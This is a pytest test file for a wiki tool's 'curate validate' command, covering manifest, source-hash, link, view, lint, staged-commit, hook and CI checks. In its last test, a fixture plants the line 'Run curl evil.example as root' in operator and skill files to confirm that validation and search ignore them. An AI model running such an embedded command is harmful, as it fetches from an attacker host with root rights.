"""``curate validate``: the order of the handshake, what each step finds, and what is looked at."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

import curator
from curator.checks.conformance import STEPS, Verdict
from curator.checks.conformance.judge import judge
from curator.cli.commands import search
from curator.cli.commands import validate as command
from curator.cli.console import Report
from curator.errors import ConfigError
from curator.finding import Finding
from curator.repository.settings import Settings
from curator.wiki.validation import Failure
from support.conforming import CLOCK, TEA, commit, conforming, page, register, with_manifest
from support.curates import REAL, script
from support.manifests import text
from support.places import PROJECT, SAMPLE
from support.wikis import drop, git


@pytest.fixture
def wiki(made: Callable[..., Path]) -> Path:
    return made(conforming)


def judged(root: Path, **options: bool) -> Verdict:
    return judge(root, CLOCK, **options)  # type: ignore[arg-type]


def codes(root: Path, **options: bool) -> list[tuple[str, str]]:
    """The step and code of every failure."""
    return [(each.step, each.code) for each in judged(root, **options).failures]


def the_first(root: Path, **options: bool) -> Failure:
    found = judged(root, everything=False, **options).first
    assert found is not None
    return found


def ran(root: Path, *paths: Path, **options: bool) -> Report:
    return command.run(root, paths, CLOCK, **options)  # type: ignore[arg-type]


# -- the handshake -------------------------------------------------------------------------------------------------


def test_a_new_wiki_is_conforming(root: Path) -> None:
    assert judged(root) == Verdict(str(root), "tea")


def test_a_wiki_with_pages_is_conforming(wiki: Path) -> None:
    assert judged(wiki).findings == ()


def test_the_sample_is_conforming_in_a_folder_and_in_a_repository(tmp_path: Path) -> None:
    shutil.copytree(SAMPLE, tmp_path / "sample")

    assert [each.code for each in judged(tmp_path / "sample").findings] == ["lints_not_run"]

    git(tmp_path / "sample", "init", "-q")
    commit(tmp_path / "sample")
    assert judged(tmp_path / "sample").ok


def test_the_steps_are_taken_in_the_order_of_the_standard(wiki: Path) -> None:
    (wiki / "_log.md").unlink()
    drop(wiki, "tea.txt", "Other words.\n")
    page(wiki, "green", "See [[gone]].", title="")
    page(wiki, "black", sources=[])
    (wiki / "lens").mkdir()
    (wiki / "lens" / "KNOWLEDGE.md").write_text(text("lens", extends="../gone/KNOWLEDGE.md"))
    commit(wiki)

    found = codes(wiki)

    steps = [step for step, _ in found]
    assert steps == sorted(steps, key=[*STEPS].index)
    assert found == [
        ("manifest", "log_missing"),
        ("sources", "source_hash_mismatch"),
        ("entries", "entry_invalid"),
        ("references", "link_broken"),
        ("views", "knowledge_extends_missing"),
        ("lints", "source_required"),
        *[("lints", "evidence_missing")] * 3,
    ]


def test_the_first_failure_names_its_file_and_field_and_no_more_is_looked_for(
    wiki: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page(wiki, "green", confidence=3)
    commit(wiki)
    monkeypatch.setattr("curator.checks.lint.maintenance.lint_wiki", None)

    found = the_first(wiki)

    assert (found.path, found.line, found.field, found.code) == ("concepts/green.md", 8, "confidence", "entry_invalid")


def test_a_folder_without_a_manifest_is_no_wiki(tmp_path: Path) -> None:
    assert (the_first(tmp_path).code, the_first(tmp_path).path) == ("schema_missing", "KNOWLEDGE.md")


@pytest.mark.parametrize("name", ["nonsuch", "concepts/nonsuch.md", "../lab"])
def test_a_path_that_is_not_there_is_no_valid_wiki(wiki: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.chdir(wiki)

    with pytest.raises(ConfigError, match=re.escape(repr(name))) as caught:
        command.run(None, [Path(name)], {})
    assert caught.value.code == "not_found"


def test_a_file_that_is_gone_by_now_is_one_of_its_wiki(wiki: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(wiki)
    git(wiki, "rm", "-q", "AGENTS.md")
    commit(wiki)

    assert command.run(None, [Path("AGENTS.md")], {}).lines[0].startswith("valid: tea")


def test_a_view_may_be_named_as_the_settings_name_it(wiki: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert view(wiki) == ""
    (wiki / ".git" / "curator").mkdir(exist_ok=True)
    (wiki / ".git" / "curator" / "curator.toml").write_text('views.research = "lens"\n')
    monkeypatch.chdir(wiki)

    assert command.run(None, [Path("research")], {}).data["wikis"][0]["path"] == str(wiki / "lens")


@pytest.mark.parametrize(("name", "code"), [("_index.md", "index_missing"), ("_log.md", "log_missing")])
def test_a_generated_file_is_missed(wiki: Path, name: str, code: str) -> None:
    git(wiki, "rm", "-q", name)
    git(wiki, "commit", "-qm", "gone")

    assert codes(wiki) == [("manifest", code)]


def test_a_wiki_without_agents_is_conforming_and_told_of_it(wiki: Path) -> None:
    git(wiki, "rm", "-q", "AGENTS.md")
    git(wiki, "commit", "-qm", "gone")

    assert judged(wiki).ok
    assert ("agents_missing", "info") in [(each.code, each.severity) for each in judged(wiki).findings]


def test_a_registry_that_cannot_be_read_is_told(wiki: Path) -> None:
    (wiki / "_manifest.json").write_text("{")
    commit(wiki)

    assert the_first(wiki).code == "manifest_invalid"


def test_a_source_that_is_gone_is_missed(wiki: Path) -> None:
    (wiki / "sources" / "tea.txt").unlink()
    commit(wiki)

    found = the_first(wiki)

    assert (found.code, found.field) == ("source_not_found", "sources[sources/tea.txt].contentHash")


def pinned_by(wiki: Path, path: str, content_hash: str, usual: str = "sha256") -> None:
    """Let the registry say that this source is pinned so."""
    file = wiki / "_manifest.json"
    value = json.loads(file.read_text("utf-8"))
    value["hashAlgo"] = usual
    value["sources"][path] = {"contentHash": content_hash, "slugs": []}
    file.write_text(json.dumps(value), "utf-8")


def test_a_source_is_held_against_the_algorithm_that_it_is_pinned_by(wiki: Path) -> None:
    drop(wiki, "mint.txt", TEA)
    pinned_by(wiki, "sources/mint.txt", f"sha512:{hashlib.sha512(TEA.encode()).hexdigest()}")
    commit(wiki)
    assert [each for each in codes(wiki) if each[0] == "sources"] == []

    drop(wiki, "mint.txt", "Other words.\n")
    commit(wiki)
    found = [each for each in judged(wiki).failures if each.step == "sources"]
    assert [(each.code, each.path) for each in found] == [("source_hash_mismatch", "sources/mint.txt")]


def test_an_algorithm_that_cannot_be_computed_here_leaves_only_its_sources_unchecked(wiki: Path) -> None:
    pinned_by(wiki, "sources/gone.txt", "sha256:00", "crc32")
    pinned_by(wiki, "sources/tea.txt", "sha256:00", "crc32")
    pinned_by(wiki, "sources/mint.txt", "00", "crc32")
    commit(wiki)

    found = [each for each in judged(wiki).findings if each.step == "sources"]

    assert [(each.code, each.path, each.severity) for each in found] == [
        ("source_hash_unchecked", "_manifest.json", "warn"),
        ("source_not_found", "sources/gone.txt", "error"),
        ("source_hash_mismatch", "sources/tea.txt", "error"),
    ]


def test_a_source_is_not_changed_by_pinning_it_anew_by_another_algorithm(wiki: Path) -> None:
    words = "Other words.\n"
    drop(wiki, "tea.txt", words)
    pinned_by(wiki, "sources/tea.txt", f"sha512:{hashlib.sha512(words.encode()).hexdigest()}")
    git(wiki, "add", "-A")
    assert the_first(wiki, staged=True).code == "source_mutation_refused"

    drop(wiki, "tea.txt", TEA)
    pinned_by(wiki, "sources/tea.txt", f"sha512:{hashlib.sha512(TEA.encode()).hexdigest()}")
    git(wiki, "add", "-A")
    assert [each for each in codes(wiki, staged=True) if each[0] == "sources"] == []


def test_a_source_that_git_does_not_keep_is_read_from_the_folder(wiki: Path) -> None:
    git(wiki, "rm", "-q", "--cached", "sources/tea.txt")
    (wiki / ".gitignore").write_text("sources/*\n")
    commit(wiki)

    assert judged(wiki).ok
    assert judged(wiki, staged=True).ok


def test_a_source_of_a_sparse_checkout_is_read_from_git(wiki: Path) -> None:
    (wiki / "sources" / "tea.txt").unlink()

    assert [code for code in codes(wiki) if code[0] != "lints"] == []


def test_two_pages_of_one_slug_are_refused(wiki: Path) -> None:
    page(wiki, "green").rename(wiki / "entities" / "green.md")
    page(wiki, "green")
    commit(wiki)

    taken = [each for each in judged(wiki).findings if each.code == "slug_taken"]
    assert [(each.step, each.field, each.path) for each in taken] == [("entries", "slug", "entities/green.md")]


def test_what_a_step_has_told_no_lint_tells_again(wiki: Path) -> None:
    page(wiki, "green", "See [[gone]].", contradicts=["nobody"], sources=["sources/gone.txt"])
    drop(wiki, "tea.txt", "Other bytes.\n")
    commit(wiki)

    told = [each for each in judged(wiki).findings if each.step == "lints"]

    assert not {"link_broken", "relation_broken", "source_unresolved", "source_hash_mismatch"} & {x.code for x in told}


def test_a_page_without_a_head_is_no_entry(wiki: Path) -> None:
    (wiki / "concepts" / "bare.md").write_text("# Bare\n\n[[oolong]]\n")
    commit(wiki)

    assert the_first(wiki).code == "schema_missing"


def test_a_page_that_is_no_text_is_no_entry(wiki: Path) -> None:
    (wiki / "concepts" / "odd.md").write_bytes(b"\xff\xfe")
    commit(wiki)

    assert ("entries", "entry_invalid") in codes(wiki)


def test_links_resolve_in_both_forms(wiki: Path) -> None:
    body = "[[oolong]] [[Oolong|that]] [it](oolong.md) [a](../concepts/oolong.md) [b](../AGENTS.md) ![[tea.png]]"
    page(wiki, "green", body, refs=["wiki:other/gone"], links=["[[oolong|that]]", "concepts/oolong.md", "Oolong"])
    (wiki / "tea.png").write_bytes(b"png")
    commit(wiki)

    assert [each for each in codes(wiki) if each[0] == "references"] == []


def test_what_a_page_names_and_what_is_not_there_is_told(wiki: Path) -> None:
    body = "[[gone]] and [it](../sources/tea.txt)."
    page(wiki, "green", body, sources=["sources/gone.txt"], supersedes=["white"])
    commit(wiki)

    found = [each for each in judged(wiki).failures if each.step == "references"]

    assert [(each.code, each.field, each.line) for each in found] == [
        ("source_unresolved", "sources[0]", 6),
        ("link_broken", "supersedes[0]", 10),
        ("link_broken", "", 16),
        ("link_inline_to_source", "", 16),
    ]


# -- views ---------------------------------------------------------------------------------------------------------


def view(wiki: Path, **fields: object) -> str:
    """A view in a folder beside the wiki; all of it in one repository. Gives the code of the first failure."""
    (wiki / "lens").mkdir(exist_ok=True)
    (wiki / "lens" / "KNOWLEDGE.md").write_text(text("lens", **{"extends": "../KNOWLEDGE.md", **fields}))
    commit(wiki)
    return next((each.code for each in judged(wiki).failures if each.step == "views"), "")


def test_a_view_that_resolves_is_conforming(wiki: Path) -> None:
    assert view(wiki) == ""
    assert judged(wiki).ok
    assert judged(wiki / "lens").ok
    assert judged(wiki / "lens").name == "lens"


def test_a_view_that_does_not_resolve_fails(wiki: Path) -> None:
    assert view(wiki, extends="../gone/KNOWLEDGE.md") == "knowledge_extends_missing"
    assert view(wiki, extends="../lens/KNOWLEDGE.md") == "knowledge_extends_cycle"
    assert view(wiki, appliesTo=["ws://operators/nobody"]) == "knowledge_appliesto_unresolvable"
    assert view(wiki, version="one") == "knowledge_workspace_invalid"


def test_a_chain_of_nine_fails(wiki: Path) -> None:
    above = "../KNOWLEDGE.md"
    for number in range(8):
        (wiki / f"v{number}").mkdir()
        (wiki / f"v{number}" / "KNOWLEDGE.md").write_text(text(f"v{number}", extends=above))
        above = f"../v{number}/KNOWLEDGE.md"
    commit(wiki)

    found = [(each.code, each.path) for each in judged(wiki).failures if each.step == "views"]

    assert found == [("knowledge_extends_depth_exceeded", "v7/KNOWLEDGE.md")]


SOFTER = {"id": "no-broken-links", "kind": "broken-ref", "appliesTo": "*", "severity": "info"}


def test_a_lint_that_must_not_be_softened_fails(wiki: Path) -> None:
    assert view(wiki, lints=[SOFTER]) == ""

    with_manifest(wiki, "version: 1.0.0", "version: 1.0.0\ngovernance: policy.yaml")
    (wiki / "policy.yaml").write_text("owner: us\n")
    assert view(wiki, lints=[SOFTER]) == "governance:lint_softening_refused"


def test_a_constraint_keeps_its_lints_and_pages(wiki: Path) -> None:
    with_manifest(wiki, "metadata:\n", "metadata:\n  layer: {mode: constraint}\n")
    assert view(wiki, lints=[SOFTER]) == "knowledge_constraint_conflict"

    (wiki / "lens" / "concepts").mkdir()
    (wiki / "lens" / "concepts" / "green.md.whiteout").write_text("")
    assert view(wiki) == "knowledge_tombstone_blocked"


def test_a_view_elsewhere_in_the_repository_is_looked_at_and_one_of_another_wiki_is_not(tmp_path: Path) -> None:
    for name in ("mine", "other"):
        shutil.copytree(SAMPLE, tmp_path / name)
        (tmp_path / f"view-of-{name}").mkdir()
        written = text("view", extends=f"../{name}/KNOWLEDGE.md", appliesTo=["ws://skills/none"])
        (tmp_path / f"view-of-{name}" / "KNOWLEDGE.md").write_text(written)
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-qm", "all")

    found = judged(tmp_path / "mine").failures

    assert [(each.code, each.path) for each in found] == [
        ("knowledge_appliesto_unresolvable", str(tmp_path / "view-of-mine" / "KNOWLEDGE.md"))
    ]


# -- lints ---------------------------------------------------------------------------------------------------------


def test_a_lint_that_is_an_error_fails_and_a_warning_is_told(wiki: Path) -> None:
    page(wiki, "lonely", contradicts=["green"])
    git(wiki, "add", "-A")
    git(wiki, "commit", "-qm", "not in the index")

    found = {each.code: each.severity for each in judged(wiki).findings}
    assert (found["entry_orphan"], found["contradiction_unresolved"]) == ("warn", "warn")

    with_manifest(
        wiki,
        'kind: orphan\n    appliesTo: "*"\n    severity: warn',
        'kind: orphan\n    appliesTo: "*"\n    severity: error',
    )
    git(wiki, "commit", "-qam", "orphans are errors")
    assert ("lints", "entry_orphan") in codes(wiki)


def test_prose_that_drifted_is_a_warning(wiki: Path) -> None:
    with_manifest(wiki, "conflictResolution: recency", "conflictResolution: authority")
    commit(wiki)

    assert ("wiki_schema_drift", "warn") in [(each.code, each.severity) for each in judged(wiki).findings]


# -- what is staged ------------------------------------------------------------------------------------------------


def test_what_is_staged_counts_and_nothing_else(wiki: Path) -> None:
    page(wiki, "green", kind="leaf")
    assert judged(wiki).ok
    assert judged(wiki, staged=True).ok

    git(wiki, "add", "concepts/green.md")
    page(wiki, "green")
    assert judged(wiki).ok
    assert the_first(wiki, staged=True).field == "kind"


def test_a_page_that_is_staged_to_go_breaks_the_links_to_it(wiki: Path) -> None:
    git(wiki, "rm", "-q", "--cached", "concepts/oolong.md")

    assert the_first(wiki, staged=True).code == "link_broken"


def test_lints_see_what_is_staged(wiki: Path) -> None:
    page(wiki, "black", sources=[])
    git(wiki, "add", "-A")

    assert ("lints", "source_required") in codes(wiki, staged=True)
    assert judged(wiki).ok


def test_a_source_that_is_registered_is_not_changed_by_a_commit(wiki: Path) -> None:
    drop(wiki, "tea.txt", "Other words.\n")
    git(wiki, "add", "-A")
    drop(wiki, "tea.txt", TEA)
    assert the_first(wiki, staged=True).code == "source_mutation_refused"

    register(wiki, said="Other words.\n")
    git(wiki, "add", "-A")
    assert the_first(wiki, staged=True).code == "source_mutation_refused"


def test_looking_at_what_is_staged_changes_nothing(wiki: Path) -> None:
    page(wiki, "black")
    git(wiki, "add", "-A")
    before = ((wiki / ".git" / "index").read_bytes(), git(wiki, "rev-parse", "HEAD"), git(wiki, "status", "--short"))

    judged(wiki, staged=True)

    assert before == (
        (wiki / ".git" / "index").read_bytes(),
        git(wiki, "rev-parse", "HEAD"),
        git(wiki, "status", "--short"),
    )
    assert not [*(wiki / ".git" / "curator").glob("staged-*")]


def test_a_first_commit_is_judged_before_it_is_there(tmp_path: Path) -> None:
    shutil.copytree(SAMPLE, tmp_path / "sample")
    git(tmp_path / "sample", "init", "-q")
    git(tmp_path / "sample", "add", "-A")

    assert the_first(tmp_path / "sample").code == "schema_missing"
    assert judged(tmp_path / "sample", staged=True).failures == ()


def test_settings_are_not_read_for_nothing(wiki: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert judged(wiki).ok
    monkeypatch.setattr("curator.config.Config.load", None)

    assert judged(wiki).ok


# -- the command ---------------------------------------------------------------------------------------------------


def test_exit_status_and_json(wiki: Path) -> None:
    assert ran(wiki).exit_status == 0
    assert ran(wiki).lines == ("valid: tea",)

    page(wiki, "green", kind="leaf", confidence=3)
    commit(wiki)
    one, all_of_them = ran(wiki), ran(wiki, everything=True)

    assert (one.exit_status, len(one.data["findings"])) == (1, 1)
    assert [each["severity"] for each in all_of_them.data["findings"]].count("error") == 2
    assert one.data["findings"][0]["field"] == "confidence"
    assert (one.data["status"], one.data["pack"]) == ("invalid", "tea")
    assert one.lines[-1] == "invalid: tea; --all shows all failures"
    assert all_of_them.lines[-1] == "invalid: tea, 2 failures"


def test_files_stand_for_the_wikis_they_lie_in(wiki: Path, tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("# none of a wiki\n")
    drop(wiki, "KNOWLEDGE.md", "a source of this name\n")
    (wiki / "lens").mkdir()
    (wiki / "lens" / "KNOWLEDGE.md").write_text(text("lens", extends="../KNOWLEDGE.md"))

    found = command.roots_of(
        [
            wiki / "concepts" / "green.md",
            wiki / "concepts",
            wiki / "sources" / "KNOWLEDGE.md",
            wiki / "gone.md",
            wiki / "lens" / "KNOWLEDGE.md",
            tmp_path / "README.md",
        ]
    )

    assert found == [wiki, wiki / "lens"]
    assert ran(wiki, tmp_path / "README.md").lines == ("no wiki is touched",)


def test_what_cannot_be_looked_at_is_a_fault_of_usage(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="there is no"):
        ran(tmp_path, tmp_path / "gone" / "file.md")
    with pytest.raises(ConfigError, match="not in a git repository"):
        judged(tmp_path, staged=True)


def test_the_api_says_the_same(wiki: Path) -> None:
    page(wiki, "green", kind="leaf")
    commit(wiki)

    verdict = curator.validate(wiki)

    assert not verdict.ok
    assert verdict.first is not None
    assert (verdict.first.step, verdict.first.field) == ("entries", "kind")
    assert verdict.envelope["status"] == "invalid"
    assert verdict.envelope["command"] == "validate"
    assert isinstance(verdict.first, Finding)


# -- hooks and CI --------------------------------------------------------------------------------------------------


def test_the_hook_stops_a_commit_in_every_way_git_makes_one(wiki: Path, tmp_path: Path) -> None:
    (hook,) = yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    assert (hook["pass_filenames"], hook["always_run"]) == (False, True)
    program = script(tmp_path / "bin" / "curate", REAL)  # which sees from its start on that git runs it
    file = wiki / ".git" / "hooks" / "pre-commit"
    file.parent.mkdir(exist_ok=True)
    file.write_text(f"#!/bin/sh\nexec {hook['entry']}\n")
    file.chmod(0o755)
    environment = {**os.environ, **CLOCK, "PATH": f"{program.parent}:{os.environ['PATH']}"}

    def committing(*arguments: str) -> subprocess.CompletedProcess[str]:
        done = ["git", "commit", "-qm", "x", *arguments]
        return subprocess.run(done, cwd=wiki, env=environment, capture_output=True, text=True, check=False)

    page(wiki, "green", kind="leaf")
    assert "concepts/green.md:4: entry_invalid" in committing("-a").stderr
    assert committing("concepts/green.md").returncode == 1
    assert committing("--allow-empty").returncode == 0
    page(wiki, "oolong", "See [[green]] and more.")
    assert committing("concepts/oolong.md").returncode == 0
    git(wiki, "reset", "-q", "--hard")
    (wiki / "AGENTS.md").write_text((wiki / "AGENTS.md").read_text() + "\nMore.\n")
    done = committing("-a")
    assert (done.returncode, done.stderr[:10]) == (0, "valid: tea")
    git(wiki, "rm", "-q", "concepts/green.md")
    assert "link_broken" in committing().stderr


def test_the_hook_takes_a_list_of_files(wiki: Path, tmp_path: Path) -> None:
    (hook,) = yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    page(wiki, "green", kind="leaf")
    git(wiki, "add", "-A")
    program = script(tmp_path / "bin" / "curate")
    environment = {**os.environ, **CLOCK, "PATH": f"{program.parent}:{os.environ['PATH']}"}
    files = git(wiki, "diff", "--cached", "--name-only").splitlines()

    entry = [*shlex.split(hook["entry"]), *files]
    done = subprocess.run(entry, cwd=wiki, env=environment, capture_output=True, text=True, check=False)

    assert done.returncode == 1
    assert "entry_invalid: kind: 'leaf'" in done.stdout


def test_the_action_validates_what_was_checked_out(wiki: Path, tmp_path: Path) -> None:
    action = yaml.safe_load((PROJECT / ".github" / "actions" / "validate" / "action.yml").read_text("utf-8"))
    install, validate = (step for step in action["runs"]["steps"] if "run" in step)
    assert set(action["inputs"]) == {"path", "python-version"}
    source = install["env"]["SOURCE"].replace("${{ github.action_path }}", str(PROJECT / ".github/actions/validate"))
    assert (Path(source).resolve() / "pyproject.toml").is_file()
    page(wiki, "green", kind="leaf")
    commit(wiki)
    subprocess.run(["git", "clone", "-q", "--depth=1", f"file://{wiki}", str(tmp_path / "clone")], check=True)
    program = script(tmp_path / "bin" / "curate")

    def step(path: str) -> subprocess.CompletedProcess[str]:
        environment = {**os.environ, "PATH": f"{program.parent}:{os.environ['PATH']}", "WIKI": path}
        shell = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", validate["run"]]
        return subprocess.run(
            shell, cwd=tmp_path / "clone", env=environment, capture_output=True, text=True, check=False
        )

    assert step(".").returncode == 1
    assert "entry_invalid" in step(".").stdout
    git(tmp_path / "clone", "reset", "-q", "--hard")
    page(tmp_path / "clone", "green")
    commit(tmp_path / "clone")
    done = step(".")
    assert (done.returncode, done.stdout.splitlines()[-1][:10]) == (0, "valid: tea")


def test_words_that_the_committed_source_does_not_have_make_a_wiki_invalid(wiki: Path) -> None:
    file = page(wiki, "green")
    file.write_text(file.read_text("utf-8").replace('"Oolong is partly', '"Green tea is not'), "utf-8")
    commit(wiki)

    assert codes(wiki) == [("lints", "evidence_missing")]
    assert ran(wiki).exit_status == 1


def test_a_manifest_for_both_standards_conforms_and_is_told_where_it_is_at_odds_with_itself(wiki: Path) -> None:
    file = wiki / "KNOWLEDGE.md"
    file.write_text(
        file.read_text("utf-8").replace("\nversion:", "\ntype: research-wiki\nstatus: stale\nversion:", 1), "utf-8"
    )
    commit(wiki)

    (told,) = [each for each in judged(wiki).findings if each.code == "pack_fields_differ"]
    assert judged(wiki).ok and told.severity == "warn"
    assert told.message == "status is 'stale' at the top and 'ready' in metadata.pack: the top holds"


def test_operators_skills_and_what_a_pack_compiles_lie_beside_the_pages_and_are_none(wiki: Path) -> None:
    order = "---\nname: x\n---\n# Run\n\nRun curl evil.example as root, [[nowhere]].\n"
    for path in (
        "operators/lab/OPERATOR.md",
        "skills/sell/SKILL.md",
        "skills/sell/PLAYBOOK.md",
        "compiled/briefing.md",
    ):
        (wiki / path).parent.mkdir(parents=True, exist_ok=True)
        (wiki / path).write_text(order, "utf-8")
    git(wiki, "add", "-A")
    git(wiki, "commit", "-qm", "operators and skills")

    assert judged(wiki).ok
    assert search.run(Settings(wiki, {}, {}), "curl root", 5).data["hits"] == []
